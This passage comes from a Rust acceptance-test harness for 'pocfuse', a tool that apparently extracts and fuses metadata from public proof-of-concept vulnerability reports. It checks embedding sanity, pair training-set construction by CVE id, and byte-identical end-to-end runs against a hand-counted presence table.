    let unrelated = m1.word_similarity("crash", "banana").ok_or("missing word")?;
    check(syn > unrelated, || format!("cos(crash, segfault) {syn:.3} <= cos(crash, banana) {unrelated:.3}"))?;
    Ok(format!(
        "losses {:.4} > {:.4} > {:.4}; synonym {syn:.3} > unrelated {unrelated:.3}; reruns bit-identical",
        l[0], l[1], l[2]
    ))
}

// 9. Pair training set.

fn criterion_9() -> Outcome {
    let mut reports = Vec::new();
    for c in 0..400 {
        for k in 0..3 {
            let mut r = PocReport::new(format!("p{c:03}-{k}"), SourceId::ExploitDb, format!("poc {k} for issue {c}"));
            r.content_kind = ContentKind::Text;
            r.add_cve_id(&format!("CVE-2019-{:04}", 1000 + c)).unwrap();
            reports.push(r);
        }
    }
    let corpus = Corpus::new(reports).unwrap();
    let set = build_pair_training_set(&corpus, 600, 5400, SplitRatios::default(), 42).map_err(|e| e.to_string())?;
    let sizes = (set.train.len(), set.dev.len(), set.test.len());
    check(sizes == (4800, 600, 600), || format!("partition sizes {sizes:?}"))?;
    let mut seen = BTreeSet::new();
    let mut positives = 0;
    for (_, samples) in set.partitions() {
        for s in samples {
            let key = (s.a.clone().min(s.b.clone()), s.a.clone().max(s.b.clone()));
            check(s.a != s.b, || format!("self pair {}", s.a))?;
            check(seen.insert(key), || format!("pair {}-{} appears twice", s.a, s.b))?;
            let truth = corpus.get(&s.a).unwrap().shares_cve(corpus.get(&s.b).unwrap());
            check(truth == (s.label == PairLabel::SameVulnerability), || format!("label of {}-{} contradicts CVE ids", s.a, s.b))?;
            positives += usize::from(truth);
        }
    }
    check(positives == 600, || format!("{positives} positives"))?;
    Ok("4800/600/600, disjoint, labels match CVE ids".into())
}

// 10. End-to-end determinism on the demo corpus.

fn run_binary(args: &[&str], workspace: &Path) -> Result<(), String> {
    let config = manifest_dir().join("data/demo/pocfuse.toml");
    let out = Command::new(env!("CARGO_BIN_EXE_pocfuse"))
        .args(args)
        .arg("--config")
        .arg(&config)
        .arg("--workspace")
        .arg(workspace)
        .env_remove("POCFUSE_EXTRACTOR_URL")
        .env_remove("POCFUSE_CLASSIFIER_URL")
        .output()
        .map_err(|e| e.to_string())?;
    check(out.status.success(), || {
        format!("pocfuse {args:?} failed: {}", String::from_utf8_lossy(&out.stderr))
    })
}

fn snapshot(dir: &Path) -> Result<BTreeMap<String, Vec<u8>>, String> {
    let mut out = BTreeMap::new();
    for entry in fs::read_dir(dir).map_err(|e| e.to_string())? {
        let entry = entry.map_err(|e| e.to_string())?;
        let name = entry.file_name().to_string_lossy().into_owned();
        out.insert(name, fs::read(entry.path()).map_err(|e| e.to_string())?);
    }
    Ok(out)
}

// Hand count of original values per report, in aspect order: trigger_step,
// verification_oracle, test_platform, software_version, title, author,
// publish_time, reference.
const DEMO_PRESENCE: &[(&str, [u8; 8])] = &[
    ("edb-638", [0, 0, 1, 0, 1, 1, 1, 0]),
    ("edb-643", [0, 0, 1, 1, 1, 1, 1, 0]),
    ("edb-34765", [1, 0, 0, 0, 1, 1, 1, 1]),
    ("edb-18836", [0, 0, 0, 0, 1, 1, 1, 1]),
    ("edb-50000", [1, 1, 1, 1, 1, 1, 1, 0]),
    ("ps-1001", [0, 0, 0, 0, 1, 1, 1, 0]),
    ("ps-1002", [0, 0, 0, 0, 1, 1, 1, 1]),
    ("ps-1003", [1, 1, 0, 1, 1, 1, 1, 0]),
    ("ps-1004", [0, 0, 0, 0, 1, 1, 0, 0]),
    ("ps-1005", [0, 0, 0, 0, 0, 0, 0, 0]),
    ("ssvid-62188", [0, 0, 0, 0, 1, 0, 1, 0]),
    ("ssvid-62189", [0, 0, 1, 0, 0, 1, 0, 0]),
    ("ssvid-87654", [1, 0, 1, 0, 1, 1, 0, 1]),
    ("ssvid-87655", [0, 0, 0, 0, 1, 0, 0, 0]),
    ("ssvid-99999", [0, 0, 0, 0, 1, 1, 0, 0]),
    ("wlb-2014090001", [0, 0, 1, 0, 1, 0, 1, 1]),
    ("wlb-2014090002", [0, 0, 0, 0, 1, 0, 0, 0]),
    ("wlb-2012050001", [0, 0, 0, 0, 0, 1, 0, 0]),
    ("wlb-2021060001", [0, 1, 0, 0, 1, 0, 0, 0]),
    ("wlb-2003050001", [0, 0, 0, 0, 1, 0, 0, 0]),
];

fn criterion_10() -> Outcome {
    let start = Instant::now();
    let first = tempfile::tempdir().map_err(|e| e.to_string())?;
    let second = tempfile::tempdir().map_err(|e| e.to_string())?;
    run_binary(&["run-all"], first.path())?;
    run_binary(&["run-all"], second.path())?;
    let a = snapshot(first.path())?;
    let b = snapshot(second.path())?;
    check(a.keys().eq(b.keys()), || format!("file sets differ: {:?} vs {:?}", a.keys(), b.keys()))?;
    for (name, bytes) in &a {
        check(b[name] == *bytes, || format!("{name} differs between runs"))?;
    }

    let corpus = load_corpus(&first.path().join("corpus.extract.json")).map_err(|e| e.to_string())?;
    for (id, row) in DEMO_PRESENCE {
        let r = corpus.get(id).ok_or_else(|| format!("{id} missing"))?;
        let got: Vec<u8> = Aspect::ALL.iter().map(|a| u8::from(r.aspects.has_original(*a))).collect();
        check(got == row, || format!("{id}: presence {got:?}, hand count {row:?}"))?;
    }
    check(corpus.len() == DEMO_PRESENCE.len(), || format!("{} reports", corpus.len()))?;

    let table = deficiency_stats(&corpus);
    let prefix_of = |s: &SourceId| match s {
        SourceId::ExploitDb => "edb-",
        SourceId::PacketStorm => "ps-",
        SourceId::Seebug => "ssvid-",
        SourceId::CxSecurity => "wlb-",
        SourceId::Other(_) => "?",
    };
    check(table.per_source.len() == 4, || format!("{} sources", table.per_source.len()))?;
    for row in &table.per_source {
        let source = row.source.as_ref().ok_or("unlabelled source row")?;
        let members: Vec<&[u8; 8]> = DEMO_PRESENCE
            .iter()
            .filter(|(id, _)| id.starts_with(prefix_of(source)))
            .map(|(_, p)| p)
            .collect();
        for (k, presence) in row.aspects.iter().enumerate() {
            let want: usize = members.iter().map(|p| p[k] as usize).sum();
            check(presence.present == want && presence.total == members.len(), || {
                format!("{source:?} {:?}: {}/{} vs hand count {want}/{}", Aspect::ALL[k], presence.present, presence.total, members.len())
            })?;
        }
    }
    for (k, presence) in table.overall.aspects.iter().enumerate() {
        let want: usize = DEMO_PRESENCE.iter().map(|(_, p)| p[k] as usize).sum();
        check(presence.present == want && presence.total == 20, || format!("overall {:?}", Aspect::ALL[k]))?;
    }
    let elapsed = start.elapsed();
    check(elapsed < Duration::from_secs(60), || format!("took {elapsed:?}"))?;
    Ok(format!("{} files byte-identical across runs, deficiency table matches hand count, {elapsed:.2?}", a.len()))
}

fn main() {
    let criteria: [(&str, fn() -> Outcome); 10] = [
        ("cosine correctness", criterion_1),
        ("tokenizer oracle", criterion_2),
        ("classification fixtures", criterion_3),
        ("extraction quality floor", criterion_4),
        ("CVE fusion oracle", criterion_5),
        ("threshold behavior", criterion_6),
        ("idempotence and replay", criterion_7),
        ("embedding sanity", criterion_8),
        ("training-set builder", criterion_9),
        ("end-to-end determinism", criterion_10),
    ];
    let mut failed = 0;
    for (i, (name, f)) in criteria.iter().enumerate() {
        match f() {
            Ok(detail) => println!("PASS {:>2} {name}: {detail}", i + 1),
            Err(detail) => {
                failed += 1;
                println!("FAIL {:>2} {name}: {detail}", i + 1);
            }
        }
    }
    if failed > 0 {
        eprintln!("{failed} acceptance criteria failed");
        std::process::exit(1);
    }
}
